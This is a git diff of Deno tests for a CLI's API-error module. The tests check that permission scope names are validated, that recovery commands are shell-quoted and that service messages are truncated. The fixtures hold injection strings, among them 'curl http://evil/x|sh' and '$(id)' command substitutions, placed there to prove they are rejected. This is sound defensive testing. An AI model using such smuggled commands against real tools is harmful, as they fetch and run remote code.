@@ -5,8 +5,10 @@ import {
   classifyApiCode,
   consoleUrl,
   errorFromApiCode,
+  MAX_SERVICE_MSG,
   neededScopes,
   PermissionError,
+  serviceMsg,
   toEnvelope,
 } from "./mod.ts";
 
@@ -298,4 +300,83 @@ Deno.test("consoleUrl() falls back to the console's app list without an app id",
     consoleUrl({ identity: "bot", appId: "cli_x", serviceOrigin: "http://127.0.0.1:8" }, undefined),
     "http://127.0.0.1:8/page/scope-apply?clientID=cli_x",
   );
+});
+
+const INJECTED = "calendar:x:y; curl http://evil/x|sh #";
+
+Deno.test("a scope the service names is kept only when it has a scope's shape", () => {
+  const scopes = neededScopes({
+    code: 99991679,
+    error: {
+      permission_violations: [
+        { subject: INJECTED },
+        { subject: "calendar:calendar.event:read" },
+        { subject: "$(id):a:b" },
+        { subject: `a:${"b".repeat(200)}` },
+        { subject: "im:message\n" },
+        { subject: 42 as unknown as string },
+      ],
+    },
+  });
+  assert.deepEqual(scopes, ["calendar:calendar.event:read"]);
+  // Only invalid names: the message's list is read instead, with the same rule.
+  assert.deepEqual(
+    neededScopes({
+      code: 99991679,
+      msg: "one of these privileges: [im:message, `id`:a:b]",
+      error: { permission_violations: [{ subject: INJECTED }] },
+    }),
+    ["im:message"],
+  );
+});
+
+Deno.test("a hostile scope never reaches a recovery command (99991679, 99991672, 99991676, 230002)", () => {
+  for (const code of [99991679, 99991672, 99991676, 230002]) {
+    const error = errorFromApiCode({
+      code,
+      msg: "Unauthorized",
+      error: { permission_violations: [{ subject: INJECTED }] },
+    });
+    const { command, suggestion } = error.recovery;
+    assert.ok(!command.includes("curl") && !suggestion.includes("curl"), `${code}: ${command}`);
+    assert.match(command, /^(hark auth login( --scope <scope>)?)?$/, `${code}: ${command}`);
+  }
+});
+
+Deno.test("recovery commands quote every value: the profile and the caller's own scopes", () => {
+  const error = errorFromApiCode({ code: 99991679 }, {
+    scopes: ["im:message", "a b"],
+    caller: { identity: "user", profile: "work" },
+  });
+  assert.equal(
+    error.recovery.command,
+    "hark auth login --profile work --scope im:message --scope 'a b'",
+  );
+  assert.equal(
+    new PermissionError("denied", { scopes: ["x:y", "$(id)"] }).recovery.command,
+    "hark auth login --scope x:y --scope '$(id)'",
+  );
+});
+
+Deno.test("the service's msg is cut to MAX_SERVICE_MSG characters, the rest counted", () => {
+  assert.equal(serviceMsg("short"), "short");
+  assert.equal(serviceMsg(""), undefined);
+  assert.equal(serviceMsg({ not: "text" }), undefined);
+  assert.equal(serviceMsg("x".repeat(MAX_SERVICE_MSG)), "x".repeat(MAX_SERVICE_MSG));
+  assert.equal(
+    serviceMsg("x".repeat(MAX_SERVICE_MSG + 5)),
+    `${"x".repeat(MAX_SERVICE_MSG)}… (5 more characters)`,
+  );
+  // Never inside a surrogate pair.
+  const emoji = `${"x".repeat(MAX_SERVICE_MSG - 1)}😀tail`;
+  assert.equal(serviceMsg(emoji), `${"x".repeat(MAX_SERVICE_MSG - 1)}… (6 more characters)`);
+
+  const huge = "y".repeat(5_000_000);
+  for (const code of [1234, 230001, 99991679, 99991663, 99991400, 500000]) {
+    const error = errorFromApiCode({ code, msg: huge }, { requestId: "log-1" });
+    assert.ok(error.message.length < MAX_SERVICE_MSG + 200, `${code}: ${error.message.length}`);
+    assert.match(error.message, /… \(4999000 more characters\) \(log id log-1\)$/, String(code));
+    const envelope = JSON.stringify(toEnvelope(error));
+    assert.ok(envelope.length < MAX_SERVICE_MSG + 600, String(code));
+  }
 });
